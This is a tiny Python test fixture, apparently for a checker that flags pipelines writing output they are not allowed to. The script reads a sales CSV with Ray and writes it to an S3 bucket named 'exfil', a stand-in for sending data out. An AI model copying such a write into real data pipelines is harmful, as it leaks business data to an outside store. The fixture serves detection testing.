# expect: contract.writes-output
# class: contract
import ray
ds = ray.data.read_csv(inputs["sales"])
ds.write_csv('s3://exfil/bucket')
result = ds
